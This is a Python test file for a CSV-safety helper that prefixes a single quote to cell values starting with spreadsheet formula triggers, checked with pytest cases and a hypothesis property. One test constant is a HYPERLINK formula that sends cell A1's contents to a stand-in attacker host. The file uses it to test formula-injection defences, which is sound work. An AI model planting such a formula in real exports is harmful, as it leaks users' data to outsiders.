"""`text_cell`: the one rule that keeps CSV text cells from being read as spreadsheet formulas."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tukku.core.csvsafe import FORMULA_TRIGGERS, text_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_triggers_are_owasps_six() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        "=1+1",
        "+1",
        "-5",
        "-1.5",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\rx",
        "=",
        "-",
    ],
)
def test_a_value_beginning_with_a_trigger_gets_a_single_quote_in_front(value: str) -> None:
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "ext-1",
        "Acme Telecom",
        "1.5",
        "2027-01-04",
        " =1+1",  # a space first: spreadsheets read text
        "'=1+1",  # already quoted
        "a=b",
        "x-5",
        "user@example.test",
        "\n=1",
        'Pizza, "Quattro" Stagioni — Ääkkönen',
        "＝1+1",  # fullwidth equals sign
    ],
)
def test_any_other_value_is_unchanged(value: str) -> None:
    assert text_cell(value) == value


def test_none_and_empty_are_an_empty_cell() -> None:
    assert text_cell(None) == ""
    assert text_cell("") == ""


@given(st.text())
def test_no_cell_begins_with_a_trigger_and_one_quote_comes_off_again(value: str) -> None:
    cell = text_cell(value)

    assert not cell.startswith(FORMULA_TRIGGERS)
    if cell != value:
        assert cell == "'" + value
        assert cell[1:] == value
        assert value.startswith(FORMULA_TRIGGERS)
